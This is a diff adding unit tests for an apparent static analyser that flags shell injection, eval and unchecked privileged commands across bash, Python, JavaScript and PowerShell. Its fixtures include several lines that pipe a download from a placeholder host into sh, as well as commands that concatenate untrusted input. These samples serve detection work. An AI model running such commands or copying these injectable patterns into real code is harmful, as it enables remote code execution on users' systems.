@@ -227,3 +227,271 @@ describe('Dockerfiles', () => {
     );
   });
 });
+
+describe('shell scripts', () => {
+  test('what another shell, here or far, is given', () => {
+    const text = [
+      'deploy() {',
+      "  sudo bash -c 'chmod 600 k; touch d'",
+      '  sh -c "chmod 600 \\"$f\\"; touch $g"',
+      '  script=\'eval "$(cat notes)"\'',
+      '  bash -c "$script" && bash -c "$script"',
+      '  ssh -p 22 root@host "curl x.example | sh"',
+      '}',
+      "bash -c $'chmod 600 \\'k\\'\\ntouch k'",
+      'find . -exec sh -c \'chmod 600 "$1"; touch x\' sh {} \\;',
+      "echo 'curl x.example | sh' | bash",
+      "bash <<< 'curl x.example | sh'",
+      '',
+    ].join('\n');
+    const unchecked = (at: string, code: string, scope: string, trace: readonly number[], statement = code) => ({
+      at,
+      text: code,
+      check: 'failsecure/privileged-unchecked',
+      scope,
+      statement,
+      trace,
+    });
+    const piped = (at: string, scope: string, line: number) => ({
+      at,
+      text: 'curl x.example | sh',
+      check: 'injection/curl-pipe',
+      scope,
+      statement: 'curl x.example | sh',
+      trace: [line, line],
+    });
+    const notes = 'eval "$(cat notes)"';
+    expect(found('a.sh', text)).toEqual({
+      findings: [
+        unchecked('2:17', 'chmod 600 k', 'deploy', [2]),
+        unchecked('3:10', 'chmod 600 \\"$f\\"', 'deploy', [3], 'chmod 600 "$f"'),
+        { at: '4:11', text: notes, check: 'injection/shell-eval', scope: 'deploy', statement: notes, trace: [4, 4] },
+        piped('6:24', 'deploy', 6),
+        unchecked('8:11', "chmod 600 \\'k\\'", '', [8, 8], "chmod 600 'k'"),
+        unchecked('9:21', 'chmod 600 "$1"', '', [9]),
+        piped('10:7', '', 10),
+        piped('11:11', '', 11),
+      ],
+      incomplete: [],
+      syntaxErrors: 0,
+    });
+  });
+
+  test.each([
+    ['as it stands', "bash <<'EOF'\nchmod 600 k\ntouch k\nEOF\n", ['2:1 chmod 600 k']],
+    ['with values of the outer shell', 'bash <<EOF\nchmod 600 "$k" \\$x\ntouch k\nEOF\n', ['2:1 chmod 600 "$k" \\$x']],
+    ['without its tabs', 'cat <<-EOF | sudo bash\n\tchmod 600 k\n\ttouch k\n\tEOF\n', ['2:2 chmod 600 k']],
+    ['for a far shell', "ssh host bash -s <<'EOF'\nchmod 600 k\ntouch k\nEOF\n", ['2:1 chmod 600 k']],
+    ['for a shell that stops at errors', 'bash -eu <<EOF\nchmod 600 k\ntouch k\nEOF\n', []],
+    ['for nobody who runs it', 'cat > f <<EOF\nchmod 600 k\ntouch k\nEOF\npsql <<EOF\nchmod 600 k\nEOF\n', []],
+  ])('a here-document %s', (_, text, expected) => {
+    const { findings, incomplete } = found('a.sh', text);
+    expect({ found: findings.map(({ at, text: code }) => `${at} ${code}`), incomplete }).toEqual({ found: expected, incomplete: [] });
+  });
+
+  test('other languages', () => {
+    const python = 'python3 - "$1" <<\'PY\'\nimport os, sys\nos.system("ls " + sys.argv[1])\nPY\n';
+    expect(short('a.sh', python)).toEqual(['3:1 injection/shell-command os.system("ls " + sys.argv[1])']);
+    expect(short('a.sh', 'python -c "import os; os.system(\'ls \' + input())"\n')).toEqual([
+      "1:23 injection/shell-command os.system('ls ' + input())",
+    ]);
+    expect(short('a.sh', 'node -e \'require("child_process").exec("ls " + process.argv[2])\' "$1"\n')).toEqual([
+      '1:10 injection/shell-command require("child_process").exec("ls " + process.argv[2])',
+    ]);
+    expect(short('a.sh', 'pwsh -NoProfile -Command \'iex "ls $(Get-Content x)"\'\n')).toEqual([
+      '1:27 injection/invoke-expression iex "ls $(Get-Content x)"',
+    ]);
+  });
+
+  test('a hole is told once: by the host, not by what it is put into', () => {
+    expect(short('a.sh', 'bash -c "eval $1"\n')).toEqual(['1:1 injection/shell-command bash -c "eval $1"']);
+    expect(short('a.sh', 'bash -c \'eval "$1"\' _ "$1"\n')).toEqual([]);
+  });
+
+  test('a fix is quoted for its host', () => {
+    const single = "bash -c 'chmod 600 k\ntouch k'\n";
+    const double = 'bash -c "chmod 600 k\ntouch k"\n';
+    const constant = 'f=k; bash -c "chmod 600 $f\ntouch k"\n';
+    const added = ' || { echo "chmod failed" >&2; exit 1; }';
+    expect([single, double, constant].flatMap((text) => found('a.sh', text).findings.map(({ fixed }) => fixed))).toEqual([
+      single.replace('600 k', `600 k${added}`),
+      double.replace('600 k', `600 k${added.replaceAll('"', '\\"')}`),
+      undefined,
+    ]);
+  });
+});
+
+describe('Python', () => {
+  const file = (...lines: string[]) =>
+    `import os, subprocess\nfrom subprocess import run as go\n\ndef deploy(key):\n    ${lines.join('\n    ')}\n`;
+
+  test.each([
+    ['plain', ['os.system("chmod 600 k; touch k")'], '5:16 chmod 600 k'],
+    ['escapes', ['os.system("echo \\"\\x41\\"; chmod 600 k\\ntouch k")'], '5:31 chmod 600 k'],
+    ['raw', ["subprocess.run(r'chmod 600 a\\ b; touch k', shell=True)"], '5:22 chmod 600 a\\ b'],
+    ['under another name', ['go("chmod 600 k;" " touch k", shell=True)'], '5:9 chmod 600 k'],
+    ['a list with a shell', ['subprocess.check_call(["sudo", "bash", "-c", """', '  chmod 600 k', '  touch k"""])'], '6:7 chmod 600 k'],
+    ['over a variable, told once', ["c = 'chmod 600 k; touch k'", 'os.popen(c)', 'os.popen(c)'], '5:10 chmod 600 k'],
+    ['joined', ['go(" ".join(["chmod", "600", "k;", "touch", "k"]), shell=True)'], '5:19 chmod", "600", "k'],
+    ['os.exec', ['os.execl("/bin/sh", "sh", "-c", "chmod 600 k; touch k")'], '5:38 chmod 600 k'],
+  ])('where a text comes from: %s', (_, lines, expected) => {
+    const { findings, incomplete, syntaxErrors } = found('a.py', file(...lines));
+    expect({
+      findings: findings.map(({ at, text, check, scope }) => ({ place: `${at} ${text}`, check, scope })),
+      incomplete,
+      syntaxErrors,
+    }).toEqual({
+      findings: [{ place: expected, check: 'failsecure/privileged-unchecked', scope: 'deploy' }],
+      incomplete: [],
+      syntaxErrors: 0,
+    });
+  });
+
+  test.each([
+    ['f-string', 'f"chmod 600 {key!r}; echo {{ > {key}"'],
+    ['percent', '"chmod 600 %s; echo { > %s" % (key, key)'],
+    ['format', '"chmod 600 {0}; echo {{ > {0}".format(key)'],
+    ['sum', '"chmod 600 " + key + "; echo { > " + key'],
+  ])('values put in are the same unknown: %s', (_, expression) => {
+    const { findings, syntaxErrors } = found('a.py', file(`os.system(${expression})`));
+    expect({ findings: findings.map(({ check, statement, trace }) => ({ check, statement, trace })), syntaxErrors }).toEqual({
+      findings: [
+        { check: 'injection/shell-command', statement: `os.system(${expression})`, trace: [5, 5] },
+        { check: 'failsecure/privileged-unchecked', statement: 'chmod 600 {key}', trace: [5, 5] },
+      ],
+      syntaxErrors: 0,
+    });
+  });
+
+  test('what starts no shell, or stops at errors, is silent', () => {
+    const lines = ['go("chmod 600 k; touch k")', 'go("chmod 600 k; touch k", shell=False)', 'go(["bash", "-ec", "chmod 600 k; touch k"])'];
+    expect(found('a.py', file(...lines, 'print("chmod 600 k; touch k")', 'os.system(key)')).findings).toEqual([]);
+  });
+
+  test('a fix is quoted for its literal, or is not offered', () => {
+    const added = ' || { echo "chmod failed" >&2; exit 1; }';
+    const braced = added.replaceAll('"', '\\"').replace('{', '{{').replace('}', '}}');
+    const fixes = (text: string) => found('a.py', file(`os.system(${text})`)).findings.map(({ fixed }) => fixed);
+    expect(fixes("'chmod 600 k\\ntouch k'")).toEqual([file(`os.system('chmod 600 k${added}\\ntouch k')`)]);
+    expect(fixes('f"chmod 600 k\\ntouch k"')).toEqual([file(`os.system(f"chmod 600 k${braced}\\ntouch k")`)]);
+    expect(fixes("r'''chmod 600 k\ntouch k'''")).toEqual([file(`os.system(r'''chmod 600 k${added}\ntouch k''')`)]);
+    expect(fixes('r"""chmod 600 k\ntouch k"""')).toEqual([undefined]);
+  });
+
+  test('Python and PowerShell in Python', () => {
+    expect(short('a.py', file(`go(["python3", "-c", "import os,sys; os.system('ls ' + sys.argv[1])"])`))).toEqual([
+      "5:42 injection/shell-command os.system('ls ' + sys.argv[1])",
+    ]);
+    expect(short('a.py', file('go(["powershell", "-Command", "iex \\"ls $(Get-Content x)\\""])'))).toEqual([
+      '5:36 injection/invoke-expression iex \\"ls $(Get-Content x)\\"',
+    ]);
+  });
+});
+
+describe('JavaScript', () => {
+  const file = (...lines: string[]) =>
+    [
+      "import { exec, execSync, spawn as start } from 'node:child_process';",
+      "import { $ } from 'zx';",
+      "import shell from 'shelljs';",
+      'class Deploy {',
+      '  run(dir) {',
+      ...lines.map((line) => `    ${line}`),
+      '  }',
+      '}',
+      '',
+    ].join('\n');
+
+  test.each([
+    ['plain', ["execSync('chmod 600 k; touch k');"], '6:15 chmod 600 k'],
+    ['escapes', ["execSync('echo \\'\\x41\\'; chmod 600 k\\ntouch k');"], '6:30 chmod 600 k'],
+    ['template', ['execSync(`', '  chmod 600 k', '  touch k`);'], '7:7 chmod 600 k'],
+    ['with a shell', ["start('chmod 600 k; touch k', { shell: true });"], '6:12 chmod 600 k'],
+    ['a shell as the program', ["start('sudo', ['sh', '-c', 'chmod 600 k; touch k']);"], '6:33 chmod 600 k'],
+    ['joined', ["const c = ['chmod 600 k', 'touch k'].join('; ');", 'exec(c);', 'exec(c);'], '6:17 chmod 600 k'],
+    ['shelljs', ["shell.exec('chmod 600 k; ' + 'touch k');"], '6:17 chmod 600 k'],
+  ])('where a text comes from: %s', (_, lines, expected) => {
+    const { findings, incomplete, syntaxErrors } = found('a.ts', file(...lines));
+    expect({
+      findings: findings.map(({ at, text, check, scope }) => ({ place: `${at} ${text}`, check, scope })),
+      incomplete,
+      syntaxErrors,
+    }).toEqual({
+      findings: [{ place: expected, check: 'failsecure/privileged-unchecked', scope: 'Deploy.run' }],
+      incomplete: [],
+      syntaxErrors: 0,
+    });
+  });
+
+  test('values put in are the same unknown, and templates that are commands stop at errors', () => {
+    const { findings } = found('a.ts', file('execSync(`chmod 600 ${dir}/k; cat "${dir}/k"`);'));
+    expect(findings.map(({ check, statement, trace }) => ({ check, statement, trace }))).toEqual([
+      { check: 'injection/shell-command', statement: 'execSync(`chmod 600 ${dir}/k; cat "${dir}/k"`);', trace: [6, 6] },
+      { check: 'failsecure/privileged-unchecked', statement: 'chmod 600 ${dir}/k', trace: [6, 6] },
+    ]);
+    const commands = ['await $`chmod 600 ${dir}; curl x.example | sh`;', 'await $({ quiet: true })`curl x.example | sh`;'];
+    expect(short('a.ts', file(...commands))).toEqual([
+      '6:31 injection/curl-pipe curl x.example | sh',
+      '7:30 injection/curl-pipe curl x.example | sh',
+    ]);
+  });
+
+  test('what starts no shell, or stops at errors, is silent', () => {
+    const lines = ["start('chmod 600 k; touch k');", "start('bash', ['-ec', 'chmod 600 k; touch k']);", 'exec(dir);'];
+    expect(short('a.ts', file(...lines))).toEqual([]);
+  });
+
+  test('a fix is quoted for its literal', () => {
+    const added = ' || { echo "chmod failed" >&2; exit 1; }';
+    const fixes = (text: string) => found('a.ts', file(`exec(${text});`)).findings.map(({ fixed }) => fixed);
+    expect(fixes("'chmod 600 k\\ntouch k'")).toEqual([file(`exec('chmod 600 k${added}\\ntouch k');`)]);
+    expect(fixes('"chmod 600 k\\ntouch k"')).toEqual([file(`exec("chmod 600 k${added.replaceAll('"', '\\"')}\\ntouch k");`)]);
+    expect(fixes('`chmod 600 k\ntouch k`')).toEqual([file(`exec(\`chmod 600 k${added}\ntouch k\`);`)]);
+  });
+});
+
+test('PowerShell', () => {
+  const text = [
+    'function Deploy($x) {',
+    '  bash -c "chmod 600 $x; touch `"$x`""',
+    "  & wsl.exe bash -lc 'echo ''a''; curl x.example | sh'",
+    '  powershell -NoProfile -Command "iex `"ls `$(Get-Content x)`""',
+    "  python -c @'",
+    'import os, sys',
+    'os.system("ls " + sys.argv[1])',
+    "'@",
+    '}',
+    '',
+  ].join('\n');
+  expect(found('a.ps1', text).findings.map(({ at, check, statement, scope }) => `${at} ${check} ${scope} ${statement}`)).toEqual([
+    '2:12 failsecure/privileged-unchecked Deploy chmod 600 $x',
+    '3:35 injection/curl-pipe Deploy curl x.example | sh',
+    '4:35 injection/invoke-expression Deploy iex "ls $(Get-Content x)"',
+    '7:1 injection/shell-command Deploy os.system("ls " + sys.argv[1])',
+  ]);
+});
+
+describe('code in code', () => {
+  test('goes three deep, each with its own quotes, and says what lies deeper', () => {
+    const text = `import os\nos.system('''ssh h "bash -c 'curl x.example | sh; bash -c \\\\"curl y.example | sh\\\\"'"''')\n`;
+    expect(found('a.py', text)).toMatchObject({
+      findings: [{ at: '2:30', text: 'curl x.example | sh', check: 'injection/curl-pipe' }],
+      incomplete: ['the code embedded on line 2 was not analysed: code nests deeper than 3 levels'],
+    });
+  });
+
+  test('values of every level are told as the file has them', () => {
+    const workflow = step('      - run: |', '          bash -c "chmod 600 $dir/${{ inputs.key }}; touch x"');
+    expect(found(WORKFLOW, workflow).findings.map(({ at, statement }) => `${at} ${statement}`)).toEqual([
+      '7:20 chmod 600 $dir/${{ inputs.key }}',
+    ]);
+  });
+
+  test('more inner code than the file is long is refused', () => {
+    const constant = `v='${':'.repeat(4000)}'`;
+    const uses = Array.from({ length: 6 }, (_, index) => `bash -c "$v; : ${index}"`);
+    expect(found('a.sh', [constant, ...uses, ''].join('\n')).incomplete).toEqual(
+      [6, 7].map((line) => `the code embedded on line ${line} was not analysed: there is more of it than the file is long`),
+    );
+  });
+});
